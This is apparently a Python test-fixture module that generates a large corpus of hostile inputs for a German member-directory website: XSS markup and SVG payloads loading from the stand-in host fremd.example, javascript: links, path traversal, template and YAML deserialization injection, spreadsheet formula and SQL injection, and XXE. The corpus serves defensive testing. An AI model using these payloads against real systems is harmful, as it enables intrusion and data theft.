"""What somebody might write who means no good, by class: more than 300 inputs, each in its file.

Whatever would run calls `hit()`, and whatever would be asked for is at `fremd.example`, so that a
browser tells. Markup, links and templates go into the profile of a company, into an entry of it and
into a piece of news, since each is made into pages in another way.
"""

from collections.abc import Callable, Iterator
from typing import NamedTuple

from tests.helpers import event_text, member_text

FOREIGN = "fremd.example"


class Input(NamedTuple):
    """One hostile input: its class, where it lies, and what is in the file."""

    kind: str
    path: str
    content: str | bytes


MARKUP = (
    "<script>hit()</script>",
    "<ScRiPt src=//fremd.example/x.js></sCrIpT>",
    "<script\n>hit()</script\n>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror\n=\nhit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=https://fremd.example/></iframe>",
    "<object data=https://fremd.example/x.swf></object>",
    "<embed src=https://fremd.example/x.swf>",
    "<link rel=stylesheet href=https://fremd.example/x.css>",
    "<style>@import 'https://fremd.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://fremd.example/'>",
    "<base href=https://fremd.example/>",
    "<form action=https://fremd.example/><input name=q autofocus onfocus=hit()></form>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=https://fremd.example/x.mp3 autoplay></audio>",
    "<template><script>hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?php hit() ?><?xml-stylesheet href='https://fremd.example/x.xsl'?>",
    "</title><script>hit()</script>",
    "</textarea></script></style><script>hit()</script>",
    "' onmouseover='hit()' x='",
    '" autofocus onfocus="hit()" x="',
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "<div style='background:url(https://fremd.example/x.png)'>x</div>",
    "<a href=javascript:hit()>x</a>",
    "<b/onclick=hit()//x>x</b>",
    "`<script>hit()</script>`",
    "```html\n<script>hit()</script>\n```",
    "    <script>hit()</script>",
)
LINKS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java&#10;script:hit()",
    "&#106;avascript:hit()",
    "&#x6a;avascript&colon;hit()",
    "javascript&#58;hit()",
    "%6aavascript:hit()",
    "\\javascript:hit()",
    "\u0001javascript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "file:///etc/passwd",
    "feed:javascript:hit()",
    "view-source:javascript:hit()",
    "blob:https://fremd.example/x",
    "ms-msdt:/id",
    "//fremd.example/x.png",
    "/\\fremd.example/x.png",
    "\\\\fremd.example\\x.png",
    "https:fremd.example/x.png",
    "https:/fremd.example/x.png",
    "https:\\\\fremd.example\\x.png",
    "http://fremd.example/x.png",
    "HTTPS://FREMD.EXAMPLE/x.png",
    "\u2044\u2044fremd.example/x.png",
    "/&#47;fremd.example/x.png",
    "/%2Ffremd.example/x.png",
    "../../../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
    'x" onerror="hit()',
    "x' onerror='hit()",
    "<x onerror=hit()>",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raise %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{# x #}{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[block: partner]]",
    "[[offen: Vorstand]]",
    "[[[[stadt]]]]",
    "[[ " + "[" * 2_000,
    "[[offen: " + " " * 20_000,
    "--8<-- '/etc/passwd'",
    "{: onclick=hit() }",
    '!!! note "<img src=x onerror=hit()>"',
    "*[HTML]: <script>hit()</script>",
    "[^1]: <script>hit()</script>\n\nx[^1]",
)
# What a spreadsheet takes for a formula, and texts that break what they are put into.
TEXTS = (
    "=1+1",
    '=HYPERLINK("https://fremd.example/";"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=DDE("cmd";"/C calc";"x")',
    '"; DROP TABLE mitglieder; --',
    "]]>",
    "-->",
    "<!--",
    "</script>",
    "BEGIN:VEVENT",
    "x\\, END:VCALENDAR",
    "::error file=x,line=1::x",
    "##[error]x",
    "##vso[task.setvariable variable=x]y",
    "::set-output name=x::y",
    "%0A::error::x",
    "&nbsp;&amp;&#0;&bogus;",
    "\u2028\u2029x",
    "x" * 5_000,
    "ä" * 5_000,
)
# Nobody sees them, or sees something else than is there.
SIGNS = (
    "Muster\u202eHbmG",
    "Muster\u200bGmbH",
    "Muster\u00adGmbH",
    "\u2066Muster\u2069",
    "Mu\u0455ter GmbH",
    "М\u0443\u0441\u0442\u0435\u0440 GmbH und Muster",
    "Muster\u0000GmbH",
    "Muster\u001b[31mGmbH",
    "Muster\u0007GmbH",
    "\ufeffMuster",
    "Muster\ufffeGmbH",
    "Muster\U000e0041GmbH",
    "M\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307uster",
    "\u3164",
    "\u2800",
    "　",
    "Muster\u0085GmbH",
    "\ud7ff\ue000Muster",
    "Muster\u2060GmbH",
    "Muster\u180eGmbH",
)
ADDRESSES = (
    "javascript:hit()",
    "https://fremd.example\\@stadt.example/",
    "https://stadt.example@fremd.example/ x",
    "https://user:pass@fremd.example/",
    "http://[::1",
    "https://\u0440\u0430\u0443.example/",
    "https://" + "a" * 3_000 + ".example/",
    "https://" + "a." * 3_000 + "example/",
    "https://x.example/" + "%" * 5_000,
    "https://x.example/" + "a" * 30_000,
    "ftp://fremd.example/",
    "//fremd.example/",
    "https:///",
    'https://x.example/"><script>hit()</script>',
    "https://x.example/' onclick='hit()",
    "https://x.example/ https://y.example/",
    "https://x.example:99999/",
    "https://xn--a.example/\u202egpj.exe",
)
YAML = (
    "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]",
    "x: &x {y: *x}",
    "profil: !!python/object/apply:os.system ['touch /tmp/hit']",
    "profil: !!python/name:os.system",
    "profil: !!binary aGl0",
    "profil: !<tag:yaml.org,2002:python/object:x> {}",
    "<<: {branche: industrie}",
    "? [a, b]\n: c",
    "? {a: b}\n: c",
    "beschaeftigte: 99999999999999999999999999999999",
    "beschaeftigte: " + "9" * 10_000,
    "beschaeftigte: 0x10",
    "beschaeftigte: 1e400",
    "beschaeftigte: .inf",
    "beschaeftigte: -1",
    "beitritt: 9999-99-99",
    "beitritt: 0000-00-00",
    "beitritt: " + "1" * 5_000,
    "massnahmen: " + "[" * 500 + "]" * 500,
    "massnahmen: " + "{a: " * 300 + "}" * 300,
    "massnahmen:\n" + "  - {typ: jobticket}\n" * 3_000,
    "\n".join(f"schluessel{number}: x" for number in range(3_000)),
    "name: zweimal\nname: dreimal",
    "__class__: x\n__init__: y",
    "model_config: {extra: allow}",
    "notiz_intern: |\n" + "  x\n" * 10_000,
    "- keine\n- Angaben",
    "--- zweites\n--- drittes",
    "%YAML 1.1\n%TAG ! tag:x,2000:",
    "anschrift: {strasse: {strasse: {strasse: x}}}",
    "frueher: [" + ", ".join(f"alt-{number}" for number in range(3_000)) + "]",
    "frueher: [../../index, /etc/passwd, 'con', '.']",
    "logo: ../../../etc/passwd",
    "logo: /etc/passwd",
    "logo: x.svg\\0.png",
    "quellen: [{titel: x, url: 'javascript:hit()', abruf: 2026-01-01}]",
)
LONG = (
    "#" * 20_000,
    "# x\n" * 3_000,
    "> " * 5_000 + "x",
    "- " * 3_000 + "x",
    "".join(" " * 2 * n + "- x\n" for n in range(300)),
    "[" * 20_000,
    "[x](" * 5_000,
    "[a](" + " " * 20_000,
    "![" * 10_000,
    "*" * 20_000,
    "_x" * 10_000,
    "`" * 20_000,
    "&" * 20_000,
    "<" * 20_000,
    "<a " * 5_000,
    "<!--" * 3_000,
    "|x" * 5_000 + "\n" + "|-" * 5_000,
    "x\n===\n" * 3_000,
    "[1]: https://x.example/\n" + "[1]" * 5_000,
    "".join(f"[{n}]: https://x.example/{n}\n" for n in range(5_000)),
    "*[x]: y\n" + "x " * 10_000,
    "\\" * 20_000,
    "https://x.example/" + "(" * 10_000,
    "a@" * 10_000,
    "1. x\n" * 5_000,
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'  # noqa: E501
DRAWINGS = (
    "<script>hit()</script>",
    "<script href='https://fremd.example/x.js'/>",
    "<rect onload='hit()' width='9' height='9'/>",
    "<a href='javascript:hit()'><rect width='9' height='9'/></a>",
    "<a xlink:href='https://fremd.example/'><rect width='9' height='9'/></a>",
    "<image href='https://fremd.example/x.png'/>",
    "<image xlink:href='data:image/svg+xml,&lt;svg onload=hit()&gt;'/>",
    "<use href='https://fremd.example/x.svg#a'/>",
    "<use xlink:href='data:image/svg+xml,x#a'/>",
    "<foreignObject><iframe src='https://fremd.example/'/></foreignObject>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='hit()'/></foreignObject>",
    "<style>@import 'https://fremd.example/x.css';</style>",
    "<style>rect{fill:url(https://fremd.example/x#a)}</style><rect width='9' height='9'/>",
    "<style>@font-face{font-family:x;src:url(//fremd.example/x)}</style>",
    "<rect style='fill:url(https://fremd.example/x)' width='9' height='9'/>",
    "<rect fill='url(//fremd.example/x#a)' width='9' height='9'/>",
    "<set attributeName='onmouseover' to='hit()'/>",
    "<animate attributeName='href' values='javascript:hit()'/>",
    "<handler xmlns='http://www.w3.org/2001/xml-events' event='load'>hit()</handler>",
    "<filter id='f'><feImage href='https://fremd.example/x.png'/></filter>",
    "<rect filter='url(https://fremd.example/x#f)' width='9' height='9'/>",
    "<text>&lt;script&gt;hit()&lt;/script&gt;</text>",
    "<title><script>hit()</script></title>",
    "<metadata><script>hit()</script></metadata>",
    "<g id='a'><use href='#a'/></g>",
    "<iframe src='https://fremd.example/'/>",
    "<discard begin='0s'/><mpath href='https://fremd.example/x'/>",
    "<cursor href='https://fremd.example/x.cur'/>",
)
# Files that are no drawing at all, or more than one.
FILES = (
    b"",
    b"<svg",
    b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    b"<svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    b"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;'>]>"
    b"<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
    b"<?xml-stylesheet href='https://fremd.example/x.xsl'?>"
    b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    b"<html><script>hit()</script></html>",
    b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    b"GIF89a<script>hit()</script>",
    b"\xff\xd8\xff\xe0<svg onload=hit()>",
    b"\x1f\x8b\x08\x00" + b"\0" * 50,
    "<svg xmlns='http://www.w3.org/2000/svg'/>".encode("utf-16"),
    b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 20_000,
)


def every() -> Iterator[Input]:
    """Each input; paths differ, so that those that are accepted make one city."""
    numbers = iter(range(100_000))

    def many(
        kind: str, path: str, texts: tuple[str, ...], made: Callable[[str, int], str]
    ) -> Iterator[Input]:
        for text in texts:
            number = next(numbers)
            yield Input(kind, path.format(number), made(text, number))

    profile = "members/firma-{}.md"
    news = "content/aktuelles/2026-01-01-neues-{}.md"
    for kind, texts in (("Markup", MARKUP), ("Vorlagen", TEMPLATES)):
        yield from many(
            kind, profile, texts, lambda text, n: member_text(name=f"Firma {n}", body=text)
        )
        yield from many(kind, news, texts, lambda text, n: _news(n, f"Vorweg.\n\n{text}\n"))
    yield from many(
        "Verweise",
        profile,
        LINKS,
        lambda text, n: member_text(name=f"Firma {n}", body=f"[x]({text})"),
    )
    yield from many(
        "Verweise", news, LINKS, lambda text, n: _news(n, f"[x]({text}) ![y]({text}) <{text}>")
    )
    yield from many("Texte", profile, TEXTS, lambda text, n: _measure(n, text))
    yield from many("Zeichen", profile, SIGNS, lambda text, n: member_text(name=f'"{text} {n}"'))
    yield from many(
        "Adressen",
        profile,
        ADDRESSES,
        lambda text, n: member_text(f"website: {_quoted(text)}\n", f"Firma {n}"),
    )
    yield from many("YAML", profile, YAML, lambda text, n: member_text(f"{text}\n", f"Firma {n}"))
    yield from many(
        "Länge", profile, LONG, lambda text, n: member_text(name=f"Firma {n}", body=text)
    )
    yield from many(
        "Zeichnungen", "members/logos/firma-{}.svg", DRAWINGS, lambda text, _: _SVG.format(text)
    )
    for content in FILES:
        yield Input("Dateien", f"members/logos/firma-{next(numbers)}.svg", content)
    for name in ("termin", "web"):
        for text in TEXTS[:12]:
            number = next(numbers)
            more = (
                f"ort: {_quoted(text)}\n" if name == "termin" else f"anmeldung: {_quoted(text)}\n"
            )
            path = f"data/veranstaltungen/2026-12-{number % 20 + 1:02}-{name}-{number}.md"
            text_of = event_text(
                more, f"2026-12-{number % 20 + 1:02} 10:00", f"{name}{number}@stadt.example"
            )
            yield Input("Termine", path, text_of)


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _news(number: int, body: str) -> str:
    return (
        f"---\ntitel: Neues {number}\nbeschreibung: Eine Nachricht zum Ausprobieren.\n---\n{body}"
    )


def _measure(number: int, text: str) -> str:
    entry = f"massnahmen:\n  - typ: jobticket\n    titel: {_quoted(text)}\n    laufend: 2024\n"
    return member_text(entry, f"Firma {number}", body=text)


def with_logo(each: Input) -> dict[str, str | bytes]:
    """The files of an input: a drawing comes with the company whose logo it is."""
    if not each.path.startswith("members/logos/"):
        return {each.path: each.content}
    name = each.path.rpartition("/")[2]
    slug = name.removesuffix(".svg")
    owner = member_text(f"logo: {name}\n", slug.replace("-", " ").title())
    return {each.path: each.content, f"members/{slug}.md": owner}
